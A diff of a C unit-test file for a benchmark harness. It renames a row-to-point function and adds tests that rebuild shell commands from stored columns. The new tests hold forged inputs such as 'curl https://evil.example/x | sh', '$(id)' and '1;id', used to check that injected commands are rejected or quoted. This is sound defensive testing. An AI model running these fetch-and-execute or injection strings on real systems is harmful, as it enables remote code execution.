@@ -1,12 +1,12 @@
 /* SPDX-License-Identifier: MIT
  *
- * test_history_point.c - stored rows as points: from their columns, and older rows'
+ * test_point_row.c - stored rows as points: from their columns, and older rows'
  */
 #include "tests/support/test.h"
 
 #include <math.h>
 
-#include "harness/history/history_point.h"
+#include "harness/point/point_row.h"
 
 static struct topology *topo;
 static struct modelref model;
@@ -29,7 +29,7 @@ static struct point point_of(const struct row *r)
     struct err err = ERR_INIT;
     struct point p;
 
-    assert_int_equal(history_point(&p, r, &model, topo, &err), ST_OK);
+    assert_int_equal(point_from_row(&p, r, &model, topo, &err), ST_OK);
     return p;
 }
 
@@ -91,26 +91,26 @@ static void foreign_values_are_checked(void **state)
     assert_true(p.budget_s == usual.budget_s);
 
     r.n_threads = 1 << 20;
-    assert_int_equal(history_point(&p, &r, &model, topo, &err), ST_INPUT);
+    assert_int_equal(point_from_row(&p, &r, &model, topo, &err), ST_INPUT);
     assert_non_null(strstr(err.msg, "a stored row's n_threads is 1048576"));
     r = stored();
     r.placement = row_enum_value(&choices_row_placement, "everywhere");
-    assert_int_not_equal(history_point(&p, &r, &model, topo, &err), ST_OK);
+    assert_int_not_equal(point_from_row(&p, &r, &model, topo, &err), ST_OK);
     r = stored();
     err_clear(&err);
     r.kv_type = row_enum_value(&choices_kv, "q2_5"); /* of a newer program */
-    assert_int_equal(history_point(&p, &r, &model, topo, &err), ST_INPUT);
+    assert_int_equal(point_from_row(&p, &r, &model, topo, &err), ST_INPUT);
     assert_non_null(strstr(err.msg, "a stored row's kv_type is q2_5: types of KV cache "
                                     "are f16, q8_0 or q4_0"));
     r = stored();
     err_clear(&err);
     r.ctx = FIELD_NO_INT;
-    assert_int_equal(history_point(&p, &r, &model, topo, &err), ST_INPUT);
+    assert_int_equal(point_from_row(&p, &r, &model, topo, &err), ST_INPUT);
     assert_non_null(strstr(err.msg, "a stored row's ctx is empty"));
     r = stored();
     err_clear(&err);
     r.kind = POINT_PREFILL; /* without a length */
-    assert_int_equal(history_point(&p, &r, &model, topo, &err), ST_INPUT);
+    assert_int_equal(point_from_row(&p, &r, &model, topo, &err), ST_INPUT);
 }
 
 static void a_prefill_point_is_one(void **state)
@@ -130,6 +130,76 @@ static void a_prefill_point_is_one(void **state)
     assert_true(p.setup.residency == WEIGHTS_PACKED);
 }
 
+static const char *command_of(const struct row *r)
+{
+    static char text[400];
+    struct err err = ERR_INIT;
+
+    return point_row_command(r, text, sizeof text, &err) == ST_OK ? text : NULL;
+}
+
+/* Whoever wrote the row does not write the command: a reader pastes it into a shell. */
+static void a_command_comes_of_the_columns(void **state)
+{
+    static const char *const forged[] = {
+        "curl https://evil.example/x | sh",
+        "bench decode -m yi-1.5-9b:Q4_0; curl evil.example | sh",
+        "bench decode -m $(id)",
+        "bench decode -m --out",
+        "bench decode -m 'yi-1.5-9b",
+        "bench decode -m ",
+        "bench decode -m other:Q4_0",
+        "",
+    };
+    struct row r = stored();
+
+    (void)state;
+    strcpy(r.model, "yi-1.5-9b");
+    strcpy(r.quant, "Q4_0");
+    r.kv_type = KERN_KV_q8_0;
+    r.n_wanted = 48;
+    r.n_batch = 256;
+    r.budget_s = 10;
+    r.mem_limit_bytes = (int64_t)6 << 30;
+    strcpy(r.command, "bench decode -m yi-1.5-9b:Q4_0 --out x; curl x|sh --seed 7");
+    assert_string_equal(command_of(&r),
+                        "bench decode -m yi-1.5-9b:Q4_0 -t 1 --placement spread --ctx "
+                        "128 -n 48 --batch 256 --mem 6G --budget 10 --seed 7 --kv-type "
+                        "q8_0");
+    for (size_t i = 0; i < sizeof forged / sizeof forged[0]; i++) {
+        strcpy(r.command, forged[i]);
+        assert_null(command_of(&r));
+    }
+    /* a file's name may hold anything: it is quoted again */
+    strcpy(r.model, "a b; $(id) 'c'");
+    strcpy(r.command, "bench decode -m '/m/a b; $(id) '\\''c'\\''.gguf' -t 1 | sh");
+    assert_ptr_equal(strstr(command_of(&r),
+                            "bench decode -m '/m/a b; $(id) '\\''c'\\''.gguf' -t 1 "),
+                     command_of(&r));
+    assert_null(strstr(command_of(&r), "| sh"));
+    r.ctx = FIELD_NO_INT;
+    assert_null(command_of(&r));
+}
+
+/* CPUs that this machine may lack. */
+static void a_command_names_the_cpus_of_the_row(void **state)
+{
+    struct row r = stored();
+
+    (void)state;
+    strcpy(r.model, "m");
+    strcpy(r.command, "bench decode -m dir/m.gguf -t 2 --isa-disable=avx512vnni");
+    r.placement = ROW_PLACEMENT_LIST;
+    r.n_threads = 2;
+    strcpy(r.cpus, "1022,7");
+    assert_non_null(strstr(command_of(&r), " --cpus 1022,7 "));
+    assert_non_null(strstr(command_of(&r), "--isa-disable=avx512vnni"));
+    strcpy(r.cpus, "1;id");
+    assert_null(command_of(&r));
+    strcpy(r.cpus, "1");
+    assert_null(command_of(&r));
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -137,6 +207,8 @@ int main(void)
         cmocka_unit_test(older_rows_say_it_in_their_command),
         cmocka_unit_test(foreign_values_are_checked),
         cmocka_unit_test(a_prefill_point_is_one),
+        cmocka_unit_test(a_command_comes_of_the_columns),
+        cmocka_unit_test(a_command_names_the_cpus_of_the_row),
     };
     struct err err = ERR_INIT;
 
